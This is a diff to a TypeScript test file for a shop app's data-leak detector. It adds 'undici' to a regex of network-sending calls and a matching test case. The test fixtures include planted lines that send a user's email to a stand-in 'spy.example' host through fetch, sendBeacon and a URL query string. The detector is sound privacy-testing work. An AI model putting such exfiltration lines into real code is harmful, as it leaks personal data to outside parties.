@@ -31,7 +31,7 @@ const SENDERS: Record<string, 'the shop' | 'no data of a person' | 'a link' | ke
   'shared/contract/createCaller.ts': 'the shop',
   'shared/domain/paths/appDownload.ts': 'a link',
 };
-const SENDS = /(?<![.\w])fetch\(|createTransport\(\{|sendBeacon\(|new (?:WebSocket|EventSource)\(|`https:\/\/(?!\$)/;
+const SENDS = /from 'undici'|(?<![.\w])fetch\(|createTransport\(\{|sendBeacon\(|new (?:WebSocket|EventSource)\(|`https:\/\/(?!\$)/;
 
 /** Names of the recipients in each language. */
 const RECIPIENTS = {
@@ -160,6 +160,7 @@ it('an ad conversion has only the amount, the currency and the order', () => {
 it.each([
   ["const answer = await fetch('https://spy.example', { body: email })"],
   ["navigator.sendBeacon('/spy', email)"],
+  ["import { request } from 'undici';"],
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a source text.
   ['const spy = `https://spy.example/?mail=${email}`'],
 ])('detects that this code sends data: %s', (planted) => {
